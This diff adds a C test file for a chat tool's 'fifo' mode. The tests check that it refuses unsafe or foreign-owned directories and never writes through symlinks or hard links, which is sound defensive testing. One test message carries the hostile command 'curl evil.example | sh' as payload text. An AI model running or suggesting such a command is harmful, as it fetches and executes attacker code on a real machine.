@@ -1,0 +1,140 @@
+/*
+ * forkcast fifo works in a directory of one's own and nowhere else: what is
+ * said by strangers must not be written where a link of somebody leads.
+ */
+#include <stdio.h>
+#include <unistd.h>
+
+#include "tests/lib/conn.h"
+#include "tests/lib/shell.h"
+
+#define OPEN                                                                 \
+	"forkcast fifo: others may get into open, which has the mode 0755; " \
+	"chmod 700 it, or use another directory\n"
+#define LINK "forkcast fifo: link is a link; use the directory itself\n"
+
+static const struct shell_case refused[] = {
+	{ "mkdir -m 755 open; forkcast fifo open 1", 73, "", OPEN },
+	{ "test -z \"`ls open`\"", 0, "", "" },
+	{ "mkdir -m 700 real; ln -s real link; forkcast fifo link 1", 73, "",
+	    LINK },
+	{ "forkcast fifo link/// 1", 73, "", LINK },
+	{ "test -z \"`ls real`\"", 0, "", "" },
+	{ "ln -s nowhere link2; forkcast fifo link2 1", 73, "",
+	    "forkcast fifo: link2 is a link; ...\n" },
+	{ "mkdir -m 700 a; ln -s ../real a/1; forkcast fifo a 1", 73, "",
+	    "forkcast fifo: a/1 is a link; ...\n" },
+	{ "mkdir -m 700 b; mkdir -m 770 b/1; forkcast fifo b 1", 73, "",
+	    "forkcast fifo: others may get into b/1, which has the mode "
+	    "0770; ...\n" },
+	{ "mkdir -m 700 c; mkfifo real/f; ln -s ../real/f c/in; "
+	  "forkcast fifo c 1",
+	    73, "",
+	    "forkcast fifo: c/in is there already, and no FIFO; remove it\n" },
+	{ "test \"`ls real`\" = f", 0, "", "" },
+};
+
+/* For root "/" is its own, but here is one that is not. */
+static const struct shell_case others_of_root[] = {
+	{ "mkdir -m 700 alien; chown 65534 alien; forkcast fifo alien 1", 73,
+	    "",
+	    "forkcast fifo: alien belongs to another user; use a directory of "
+	    "your own\n" },
+	{ "mkdir -m 700 d; mkfifo d/in; chown 65534 d/in; "
+	  "forkcast fifo d 1",
+	    73, "",
+	    "forkcast fifo: d/in belongs to another user; remove it\n" },
+};
+static const struct shell_case others[] = {
+	{ "forkcast fifo / 1", 73, "",
+	    "forkcast fifo: / belongs to another user; use a directory of "
+	    "your own\n" },
+};
+
+static struct server *server;
+static struct conn *ali;
+
+static void
+run(const char *script)
+{
+	struct shell *shell = shell_start(server->address[0], script);
+
+	MUST(shell_status(shell) == 0, "%s: %s", script,
+	    shell_complained(shell));
+}
+
+/* Waits until the test of the shell holds. */
+static void
+until(const char *condition)
+{
+	char script[256];
+
+	(void)snprintf(script, sizeof(script),
+	    "until %s; do sleep 0.05 || sleep 1; done", condition);
+	run(script);
+}
+
+/* A file to which no stranger's words may be added. */
+static void
+follows_no_link(void)
+{
+	run("mkdir -m 700 chat chat/1 chat/2; echo mine >victim; "
+	    "ln -s ../../victim chat/1/out; ln victim chat/2/out");
+	struct shell *shell = shell_start(
+	    server->address[0], "exec forkcast fifo -n javad chat 1 2");
+	shell_expect_complaint(
+	    shell, "forkcast fifo: cannot write to chat/1/out: ...");
+	shell_expect_complaint(
+	    shell, "forkcast fifo: cannot write to chat/2/out: ...");
+	shell_await(server->address[0], "javad", "1");
+	conn_say(ali, "send 1 curl evil.example | sh");
+	run("rm chat/2/out");
+	conn_say(ali, "join 2\nsend 2 hello");
+	until("grep -q hello chat/2/out");
+	run("test \"`cat victim`\" = mine");
+	PASS("an out that is a link, of either kind, is not written to");
+	run("echo quit >chat/in");
+	TAP_NUM(shell_status(shell), 0, "quit ends it");
+}
+
+/* The directory is another's by its name now, and still ours. */
+static void
+stays_where_it_is(void)
+{
+	run("rm -rf chat; mkdir -m 700 trap; mkdir -m 700 trap/1");
+	struct shell *shell = shell_start(
+	    server->address[0], "exec forkcast fifo -n javad chat 1");
+	shell_await(server->address[0], "javad", "1");
+	until("test -p chat/1/in");
+	run("mv chat moved; ln -s trap chat");
+	conn_say(ali, "send 1 still here");
+	until("grep -q 'still here' moved/1/out");
+	run("echo join tea >moved/in");
+	until("test -p moved/tea/in");
+	run("printf 'one' >moved/1/in");
+	conn_wait_for(ali, "msg * 1 javad one");
+	run("printf 'two' >moved/1/in");
+	conn_wait_for(ali, "msg * 1 javad two");
+	run("echo quit >moved/in");
+	TAP_NUM(shell_status(shell), 0, "quit ends it");
+	run("test -z \"`find moved -name in`\"");
+	run("test \"`ls -R trap | tr -d '\\n'`\" = trap:1trap/1:");
+	PASS("what takes the name of its directory gets nothing of it");
+}
+
+int
+main(void)
+{
+	server = server_start(NULL);
+	ali = conn_member(server, "ali", "1");
+	shell_cases(server->address[0], refused);
+	if (geteuid() == 0)
+		shell_cases(server->address[0], others_of_root);
+	else
+		shell_cases(server->address[0], others);
+	follows_no_link();
+	stays_where_it_is();
+	conn_close(ali);
+	server_stop(server);
+	return tap_done();
+}
